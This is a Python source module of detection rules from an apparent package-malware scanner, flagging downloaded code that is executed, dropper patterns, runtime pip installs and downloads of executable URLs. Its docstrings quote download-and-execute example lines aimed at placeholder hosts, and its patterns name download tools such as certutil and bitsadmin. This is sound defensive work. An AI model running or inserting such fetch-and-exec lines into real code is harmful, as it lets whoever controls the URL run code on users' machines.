"""Download-and-run rules (DOU4xx): fetched code executed, fetched files written and started, runtime pip installs."""

from __future__ import annotations

import ast
import re
import weakref
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from douane.analysis.context import FileContext, PyContext, child_nodes, walk_order
from douane.analysis.indicators import url_kind
from douane.analysis.interface import FileType, Hit, Tag, all_of, anchored
from douane.analysis.process import (
    CASE_FOLDS,
    EXEC_NAMES,
    HOLE,
    command_of,
    is_exec_call,
    loose_str,
)
from douane.analysis.pyapi import (
    CHMOD,
    DYNAMIC_EXEC,
    NETWORK_FETCH,
    SYSTEM_TRIGGER,
    matches,
    tail,
    written_names,
)
from douane.analysis.registry import file_rule, node_rule
from douane.domain import Confidence, Family, Severity, Where

FETCH_CALLS = NETWORK_FETCH | frozenset({"urllib.request.urlretrieve", "urllib.urlretrieve",
                                         "urllib.request.urlopen", "httpx.stream",
                                         "requests.request", "httpx.Client", "urllib3.request",
                                         "urllib3.PoolManager"})  # fmt: skip
FETCH_TRIGGERS = (b"urlopen", b"urlretrieve", b"requests", b"httpx", b"wget", b"urllib",
                  b"pycurl", b"http.client", b"aiohttp")  # fmt: skip
_SELF_WRITING = frozenset({"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"})
_LOADERS = frozenset({"pickle.loads", "marshal.loads", "dill.loads", "cPickle.loads",
                      "cloudpickle.loads"})  # fmt: skip
_IMPORTERS = frozenset({"importlib.import_module", "__import__", "runpy.run_path",
                        "runpy.run_module", "imp.load_source", "ctypes.CDLL", "ctypes.WinDLL",
                        "ctypes.cdll.LoadLibrary", "ctypes.windll.LoadLibrary",
                        "importlib.machinery.SourceFileLoader"})  # fmt: skip
_SCOPES = (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)
_FETCH_MODULES = ("requests", "httpx", "urllib3", "wget", "aiohttp", "pycurl")
# what is_fetch resolves must write in code (a download in prose or a docstring is none)
FETCH_NAMES = written_names(
    FETCH_CALLS | {"requests.get", "httpx.get", "requests.Session.get"}, prefer=_FETCH_MODULES
) | {b"urlopen", b"urlretrieve"}
_BUILTINS = ("builtins", "__builtins__", "__builtin__")
# Build tools a setup script or a CLI runs after fetching declared sources (benign-lookalikes.md).
BUILD_TOOLS = frozenset({"git", "cmake", "make", "ninja", "go", "cargo", "rustc", "msgfmt", "npm",
                         "yarn", "pnpm", "node", "gcc", "cc", "g++", "c++", "clang", "nvcc",
                         "swig", "protoc", "pkg-config", "meson", "bazel", "tar", "unzip",
                         "patch", "autoreconf", "qmake", "jlpm", "tsc", "ollama", "docker",
                         "xcodebuild", "msbuild", "cl", "where", "which", "uname", "ldconfig",
                         "sphinx-build", "pandoc", "lsb_release", "sw_vers", "brew",
                         "apt-get", "yum", "dnf", "conda", "hg", "svn"})  # fmt: skip


def is_fetch(name: str | None) -> bool:
    if matches(name, FETCH_CALLS):
        return True
    return tail(name) in ("urlopen", "urlretrieve") or (name or "").startswith(
        ("requests.get", "httpx.get", "requests.Session.get")
    )


# -- per-scope facts, computed once per function (or module top level) ------------------------


@dataclass
class ScopeFacts:
    """What one function body (or the module's top level) does, for combination rules."""

    fetches: list[ast.Call] = field(default_factory=list)
    writes: list[ast.Call] = field(default_factory=list)
    tainted: set[str] = field(default_factory=set)  # names holding fetched content
    calls: list[tuple[ast.Call, str | None]] = field(default_factory=list)
    written: set[str] = field(default_factory=set)  # names and literal paths of files written


_FACTS: weakref.WeakKeyDictionary[ast.AST, ScopeFacts] = weakref.WeakKeyDictionary()
_DROPPERS: weakref.WeakKeyDictionary[ast.AST, frozenset[str]] = weakref.WeakKeyDictionary()


def scope_of(ctx: PyContext) -> ast.AST:
    """The innermost function the current node runs in, or the module."""
    for node in reversed(ctx.scope):
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            return node
    return ctx.tree


def scope_nodes(scope: ast.AST) -> Iterator[ast.AST]:
    """Nodes of one scope in source order, not descending into nested defs and classes."""
    body = (
        scope.body if isinstance(scope, ast.Module | ast.FunctionDef | ast.AsyncFunctionDef) else []
    )
    stack = list(reversed(body))
    while stack:
        node = stack.pop()
        if isinstance(node, _SCOPES):
            continue
        yield node
        stack.extend(reversed(child_nodes(node)))


def _is_write(call: ast.Call, name: str | None, ctx: PyContext) -> bool:
    if name in ("open", "io.open", "builtins.open", "os.open"):
        mode = (
            call.args[1]
            if len(call.args) > 1
            else next((k.value for k in call.keywords if k.arg in ("mode", "flags")), None)
        )
        text = ctx.const_str(mode) if mode is not None else None
        if name == "os.open":
            flags = ast.unparse(mode) if mode is not None else ""
            return any(f in flags for f in ("O_WRONLY", "O_RDWR", "O_CREAT"))
        return text is not None and any(c in text for c in "wax")
    if name in _SELF_WRITING or name in (
        "tempfile.NamedTemporaryFile",
        "tempfile.mkstemp",
        "shutil.copyfileobj",
    ):
        return True
    return tail(name) in ("write_bytes", "write_text", "write", "writelines")


def facts(scope: ast.AST, ctx: PyContext) -> ScopeFacts:
    cached = _FACTS.get(scope)
    if cached is not None:
        return cached
    out = ScopeFacts()
    for node in scope_nodes(scope):
        if isinstance(node, ast.Call):
            name = ctx.call_name(node)
            out.calls.append((node, name))
            if is_fetch(name):
                out.fetches.append(node)
            if _is_write(node, name, ctx):
                out.writes.append(node)
                out.written.update(_written_refs(node, name, ctx))
        elif isinstance(node, ast.Assign | ast.AnnAssign | ast.With | ast.AsyncWith):
            if isinstance(node, ast.With | ast.AsyncWith):
                pairs = [(i.optional_vars, i.context_expr) for i in node.items if i.optional_vars]
            elif isinstance(node, ast.Assign):
                pairs = [(t, node.value) for t in node.targets]
            else:
                pairs = [(node.target, node.value)] if node.value is not None else []
            for target, value in pairs:
                names = {sub.id for sub in ast.walk(target) if isinstance(sub, ast.Name)}
                if _carries_fetch(value, out.tainted, ctx):
                    out.tainted |= names
                opens = isinstance(node, ast.With | ast.AsyncWith) and isinstance(value, ast.Call)
                if opens and _is_write(value, ctx.call_name(value), ctx):
                    out.written |= names  # `with open(p, "wb") as fh` / NamedTemporaryFile() as t
                elif _mentions(value, out.written, ctx):
                    out.written |= names  # exe_path = tmp.name; p2 = os.path.join(p, "x")
    _FACTS[scope] = out
    return out


def _written_refs(call: ast.Call, name: str | None, ctx: PyContext) -> set[str]:
    """Names and literal paths a write call writes to."""
    if name in ("urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"):
        target = (
            call.args[1]
            if len(call.args) > 1
            else next((k.value for k in call.keywords if k.arg in ("filename", "out")), None)
        )
    elif name in ("open", "io.open", "builtins.open", "os.open"):
        target = call.args[0] if call.args else None
    elif tail(name) in ("write_bytes", "write_text") and isinstance(call.func, ast.Attribute):
        target = call.func.value
    else:
        return set()
    return _refs(target, ctx)


def _refs(node: ast.AST | None, ctx: PyContext) -> set[str]:
    if node is None:
        return set()
    out = {sub.id for sub in ast.walk(node) if isinstance(sub, ast.Name)}
    value = ctx.const_str(node)
    if value:
        out.add("=" + value)
    return out


def _mentions(node: ast.AST, refs: set[str], ctx: PyContext) -> bool:
    if not refs:
        return False
    for sub in ast.walk(node):
        if isinstance(sub, ast.Name) and sub.id in refs:
            return True
        if (
            isinstance(sub, ast.Constant)
            and isinstance(sub.value, str)
            and _names_path(sub.value, refs)
        ):
            return True
    return False


def _names_path(text: str, refs: set[str]) -> bool:
    """A literal names a written path: the same string, or a command holding its file name
    (`start server.exe` after writing `C://x//server.exe`)."""
    if "=" + text in refs:
        return True
    for ref in refs:
        if ref.startswith("="):
            base = re.split(r"[/\\]+", ref[1:])[-1]
            if len(base) >= 4 and base in text:
                return True
    return False


def _carries_fetch(expr: ast.AST, tainted: set[str], ctx: PyContext) -> bool:
    for sub in ast.walk(expr):
        if isinstance(sub, ast.Call) and is_fetch(ctx.call_name(sub)):
            return True
        if isinstance(sub, ast.Name) and sub.id in tainted:
            return True
    return False


def droppers(ctx: PyContext) -> frozenset[str]:
    """Names of this module's functions that both fetch and write a file (helpers like
    ``download(url, path)``), so a caller that runs the result counts as download-and-run."""
    cached = _DROPPERS.get(ctx.tree)
    if cached is not None:
        return cached
    names = set()
    for node in walk_order(ctx.tree):
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            f = facts(node, ctx)
            if f.fetches and f.writes:
                names.add(node.name)
    out = frozenset(names)
    _DROPPERS[ctx.tree] = out
    return out


# -- URL helpers --------------------------------------------------------------------------------

EXECUTABLE_EXT = re.compile(
    r"\.(exe|dll|scr|msi|bin|elf|sh|ps1|bat|cmd|vbs|vbe|hta|jar|pif|com|run|appimage)$",
    re.IGNORECASE,
)
_URL = re.compile(r"(?:https?|ftp)://[^\s'\"<>`]+", re.IGNORECASE)
_KIND_LABEL = {"file_host": "file-sharing host", "raw_ip": "raw IP address", "paste": "paste site",
               "tunnel": "tunnel host", "webhook": "webhook", "mock_api": "mock-API host",
               "dyndns": "dynamic-DNS host", "shortener": "URL shortener"}  # fmt: skip


def host_kind(url: str) -> str | None:
    """Why a URL's host is a suspicious fixed destination (raw IP, file share, paste, tunnel)."""
    try:
        kind = url_kind(url)
    except ValueError:
        return None
    return _KIND_LABEL.get(kind, kind.replace("_", " ")) if kind else None


def executable_url(url: str) -> str | None:
    path = urlsplit(url.strip()).path
    m = EXECUTABLE_EXT.search(path)
    return m.group(1).lower() if m else None


# -- rules ---------------------------------------------------------------------------------------


_LEGACY_BOOTSTRAPS = frozenset(
    {"bootstrap.py", "ez_setup.py", "distribute_setup.py", "bootstrap-buildout.py"}
)


def legacy_bootstrap(rel_path: str) -> bool:
    """buildout's `bootstrap.py` and `ez_setup.py` at the project root fetched and ran an
    installer by design, and only when a developer ran them by hand."""
    return rel_path in _LEGACY_BOOTSTRAPS


_INTERPRETER = re.compile(
    r"(?:^|\s)-(?:c|e|command)\b|python|\b(?:ba|z)?sh\b|powershell|pwsh", re.I
)


@node_rule(
    "DOU401",
    "exec_of_fetched_code",
    family=Family.DOWNLOAD,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    # a fetch and code that runs it: exec/eval, a loader or a process
    triggers=(
        all_of(
            FETCH_TRIGGERS,
            FETCH_NAMES,
            written_names(
                DYNAMIC_EXEC | _LOADERS, prefer=(*_BUILTINS, *(n.split(".")[0] for n in _LOADERS))
            )
            | EXEC_NAMES,
        ),
    ),
    tags=(Tag.DOWNLOAD, Tag.DYNAMIC_EXEC),
)
def exec_of_fetched_code(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags `exec`/`eval`/`compile` (and `pickle.loads`/`marshal.loads`, or a
    `python -c` process) whose argument is content fetched from the network, directly
    (`exec(requests.get(u).text)`) or through a variable of the same function.

    Why it matters: the package holds no code of its own to inspect; whoever controls the
    URL decides what runs, and can change it after review. No honest library runs code it
    downloads without a signature check. The old buildout `bootstrap.py`/`ez_setup.py` at
    a project root did exactly this when run by hand, and is MEDIUM.

    Example: `exec(urllib.request.urlopen("https://x.example.invalid/s.py").read())`.
    """
    name = ctx.call_name(node)
    runs_code = is_exec_call(name) and bool(_INTERPRETER.search(command_of(node, ctx) or ""))
    if not (name in DYNAMIC_EXEC or name in _LOADERS or runs_code):
        return
    args = node.args[:1]
    if not args:
        return
    if name in _LOADERS and any(
        isinstance(c, ast.Call) and tail(ctx.call_name(c)) == "dumps" for c in ast.walk(args[0])
    ):
        return  # pickle.loads(pickle.dumps(response)): a round trip in a test
    f = facts(scope_of(ctx), ctx)
    if _carries_fetch(args[0], f.tainted, ctx):
        what = "unpickles" if name in _LOADERS else "executes"
        if legacy_bootstrap(ctx.rel_path):
            yield ctx.hit(node, f"`{name}` {what} code fetched from the network (legacy bootstrap script)",
                          severity=Severity.MEDIUM)  # fmt: skip
        else:
            yield ctx.hit(node, f"`{name}` {what} code fetched from the network")


_RUN_TARGET_KEYWORDS = frozenset({"args", "path", "executable", "file", "filename", "name"})


def _execution_of(call: ast.Call, name: str | None, ctx: PyContext) -> str | None:
    """What a call does with a file on disk that makes it run, or None."""
    if name in CHMOD:
        mode = call.args[1] if len(call.args) > 1 else None
        bits = (
            mode.value if isinstance(mode, ast.Constant) and isinstance(mode.value, int) else None
        )
        text = ast.unparse(mode) if mode is not None else ""
        if (bits is not None and bits & 0o111) or "EXEC" in text or "S_IX" in text:
            return "makes it executable"
        return None
    if name in _IMPORTERS:
        arg = call.args[0] if call.args else None
        return "imports it" if arg is not None and ctx.const_str(arg) is None else None
    if name in ("exec", "builtins.exec") and call.args:
        inner = call.args[0]
        if isinstance(inner, ast.Call) and tail(ctx.call_name(inner)) in ("read", "read_text"):
            return "executes it"
        return None
    if is_exec_call(name):
        cmd = command_of(call, ctx) or HOLE
        first = cmd.split()[0].rsplit("/", 1)[-1].lower() if cmd.split() else ""
        if first in BUILD_TOOLS or first.removesuffix(".exe") in BUILD_TOOLS:
            return None
        if "pip" in cmd.split()[:4] or re.search(r"-m\s+pip\b", cmd):
            return None  # DOU403's business
        return "runs it" if name != "os.startfile" else "opens it"
    return None


@node_rule(
    "DOU402",
    "download_write_execute",
    family=Family.DOWNLOAD,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    # the fetch tokens are what the rule needs; the sink tokens make the engine enter the
    # function that runs the file when the download sits in a helper elsewhere
    triggers=(
        all_of(
            FETCH_TRIGGERS
            + (
                b"chmod",
                b"startfile",
                b"Popen",
                SYSTEM_TRIGGER,
                b"subprocess",
                b"CDLL",
                b"import_module",
                b"run_path",
                b"LoadLibrary",
            ),
            FETCH_NAMES,
            written_names(CHMOD | _IMPORTERS | {"exec", "builtins.exec"}, prefer=("builtins",))
            | EXEC_NAMES,
        ),
    ),
    tags=(Tag.DOWNLOAD, Tag.FILE_WRITE, Tag.EXECUTE),
)
def download_write_execute(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a call that runs a file (process, `os.startfile`, `chmod +x`,
    import, `ctypes.CDLL`) in a function (or module top level) that also fetches a URL and
    writes a file, directly or through a helper of the same module that does both.

    The call must name the file that was written (the same variable, a name derived from
    it such as `tmp.name`, or the same literal path), not merely sit next to a download.

    Why it matters: download, save, execute is the dropper's whole job. Build tools that
    fetch sources and run `git`/`cmake`/`make` are left out; a CLI that downloads and runs a
    helper binary on request is weighed down by where it runs (inside a function).

    Example: `urlretrieve(u, p); os.chmod(p, 0o755); subprocess.Popen([p])`.
    """
    name = ctx.call_name(node)
    action = _execution_of(node, name, ctx)
    if action is None:
        return
    f = facts(scope_of(ctx), ctx)
    helpers = droppers(ctx)
    helper_call = next((c for c, n in f.calls if n in helpers), None)
    via_helper = ctx.call_name(helper_call) if helper_call is not None else None
    refs = set(f.written) if f.fetches and f.writes else set()
    if helper_call is not None:
        for arg in [*helper_call.args, *(k.value for k in helper_call.keywords)]:
            refs |= _refs(arg, ctx) - {
                sub.id for sub in ast.walk(arg) if isinstance(sub, ast.Name) and sub.id in f.tainted
            }
    runs = [*node.args, *(k.value for k in node.keywords if k.arg in _RUN_TARGET_KEYWORDS)]
    if not any(_mentions(arg, refs, ctx) for arg in runs):
        return  # the file that runs is not the one written (a log file as stdout is not)
    how = (
        f"through `{via_helper}()`"
        if via_helper and not (f.fetches and f.writes)
        else "in the same scope"
    )
    yield ctx.hit(node, f"`{name}` {action} after a download is written to disk {how}")


_PIP_CMD = re.compile(r"(?:^|[\s/\\])pip[0-9.]*(?:\.exe)?\s+install\b|-m\s+pip\s+install\b", re.I)
_PIP_API = frozenset({"pip.main", "pip._internal.main", "pip._internal.cli.main.main",
                      "pip._internal.main.main"})  # fmt: skip
_PIP_REMOTE = re.compile(
    r"(?:https?|ftp)://|\bgit\+|--(?:extra-)?index-url\b|(?:^|\s)-i\s|--trusted-host\b|"
    r"(?:^|\s)-f\s|--find-links\b|\.(?:whl|zip|tar\.gz|egg)\b",
    re.IGNORECASE,
)


@node_rule(
    "DOU403",
    "runtime_pip_install",
    family=Family.DOWNLOAD,
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (anchored(rb"\bpip(?:[0-9.]*(?:\.exe)?['\"\s,]|\.main|\._internal)", b"pip"),),
            written_names(_PIP_API, prefer=("pip",)) | EXEC_NAMES,
        ),
    ),
    tags=(Tag.DOWNLOAD, Tag.EXECUTE),
)
def runtime_pip_install(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags code that installs packages while it runs: `pip install` through a
    process (`[sys.executable, "-m", "pip", "install", ...]`, `os.system("pip install x")`)
    or pip's internal API (`pip.main(["install", ...])`).

    Why it matters: installing at install or import time pulls dependencies that never
    appear in the metadata a reviewer reads; installing from a URL, a git repository or an
    extra index fetches code from wherever the author likes. A CLI's self-update command
    inside a function is LOW; at install/import time MEDIUM; from a URL/git/other index HIGH.

    Example: `os.system("pip install https://x.example.invalid/helper-1.0.tar.gz")` in setup.py.
    """
    name = ctx.call_name(node)
    if name in _PIP_API:
        arg = node.args[0] if node.args else None
        parts = (
            [loose_str(e, ctx) or HOLE for e in arg.elts]
            if isinstance(arg, ast.List | ast.Tuple)
            else []
        )
        cmd = " ".join(parts)
        if not parts or parts[0] != "install":
            return
    elif is_exec_call(name):
        cmd = command_of(node, ctx) or ""
        if not _PIP_CMD.search(cmd):
            return
    else:
        return
    if _PIP_REMOTE.search(cmd):
        yield ctx.hit(node, f"`{name}` runs `pip install` from a URL, repository or other index",
                      severity=Severity.HIGH)  # fmt: skip
    elif ctx.where in (Where.INSTALL, Where.IMPORT):
        yield ctx.hit(
            node, f"`{name}` runs `pip install` at {ctx.where} time", severity=Severity.MEDIUM
        )
    else:
        yield ctx.hit(node, f"`{name}` runs `pip install` when called")


@node_rule(
    "DOU404",
    "executable_url_download",
    family=Family.DOWNLOAD,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            FETCH_TRIGGERS + (b"curl", b"bitsadmin", b"certutil", b"Invoke-WebRequest", b"iwr"),
            FETCH_NAMES | EXEC_NAMES,
        ),
    ),
    tags=(Tag.DOWNLOAD,),
)
def executable_url_download(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a fetch (`requests.get`, `urlretrieve`, `urlopen`, or a
    `curl`/`wget`/`certutil`/`Invoke-WebRequest` command) of a fixed URL whose path ends in an
    executable or script extension (`.exe`, `.dll`, `.scr`, `.msi`, `.bin`, `.elf`, `.sh`,
    `.ps1`, `.bat`, `.vbs`, `.hta`, `.jar`).

    Why it matters: Python packages ship Python; downloading a native executable from a
    hard-coded address is how droppers fetch their second stage, especially from Discord
    attachments, file shares or raw IPs (HIGH). Tools that fetch a driver or model by URL are
    usually in a function and weighed down there; `.bin` (model weights) is LOW.

    Example: `requests.get("https://x.example.invalid/files/Windows.exe")`.
    """
    name = ctx.call_name(node)
    if is_fetch(name):
        url = loose_str(node.args[0], ctx) if node.args else None
        if url is None:
            url = next((loose_str(k.value, ctx) for k in node.keywords if k.arg == "url"), None)
        urls = [url] if url else []
    elif is_exec_call(name):
        cmd = command_of(node, ctx) or ""
        if not re.search(
            r"\b(?:curl|wget|certutil|bitsadmin|invoke-webrequest|iwr|downloadfile)\b", cmd, re.I
        ):
            return
        urls = _URL.findall(cmd)
    else:
        return
    for url in urls:
        ext = executable_url(url)
        if not ext or HOLE in (urlsplit(url).netloc or HOLE):
            continue
        kind = host_kind(url)
        sev = Severity.HIGH if kind else Severity.LOW if ext == "bin" else None
        where = f" from a {kind}" if kind else ""
        yield ctx.hit(node, f"`{name}` downloads a `.{ext}` file{where}", severity=sev)
        return


_UNPARSED_EXEC_FETCH = re.compile(
    r"\b(?:exec|eval)\s*[(\s][^\n]{0,200}?\b(?:urlopen|requests\.get|urllib2?\.\w+)\s*\(",
    re.IGNORECASE,
)
_UNPARSED_RETRIEVE = re.compile(r"\burlretrieve\s*\(")
_UNPARSED_RUN = re.compile(r"\b(?:os\.startfile|os\.system|subprocess\.\w+|Popen)\s*\(")


@file_rule(
    "DOU405",
    "unparsed_python_download_and_run",
    family=Family.DOWNLOAD,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    file_types=(FileType.PYTHON,),
    only_unparsed=True,
    triggers=(b"urlopen", b"urlretrieve", b"requests.get", b"urllib"),
    tags=(Tag.DOWNLOAD, Tag.EXECUTE),
)
def unparsed_python_download_and_run(ctx: FileContext) -> Iterator[Hit]:
    """What it does: in Python files that do not parse (often Python 2), flags `exec`/`eval`
    of `urlopen(...)`/`requests.get(...)` on one line, and `urlretrieve(...)` in a file that
    also starts a process or `os.startfile`.

    Why it matters: the AST rules cannot read these files, and Python 2 droppers
    (`exec urllib2.urlopen(u).read()`) still run under a Python 2 `pip`.

    Example: `exec urllib2.urlopen("http://192.0.2.1/s").read()` next to `print "ok"`.
    """
    legacy = legacy_bootstrap(ctx.rel_path)
    # the regexes' words, looked up before they run over the text (case-insensitive, like the
    # first: unless the file holds a character IGNORECASE also takes for an ASCII letter)
    data = ctx.member.data
    low = data.lower()
    folds = not data.isascii() and any(c in data for c in CASE_FOLDS)
    if folds or (
        (b"exec" in low or b"eval" in low)
        and (b"urlopen" in low or b"requests.get" in low or b"urllib" in low)
    ):
        for m in _UNPARSED_EXEC_FETCH.finditer(ctx.text):
            yield ctx.hit_at(m.start(), "exec of fetched content in unparsable Python"
                             + (" (legacy bootstrap script)" if legacy else ""),
                             severity=Severity.MEDIUM if legacy else Severity.CRITICAL)  # fmt: skip
    if b"urlretrieve" in ctx.member.data and _UNPARSED_RUN.search(ctx.text):
        for m in _UNPARSED_RETRIEVE.finditer(ctx.text):
            yield ctx.hit_at(
                m.start(), "`urlretrieve` download in a file that also starts a process"
            )
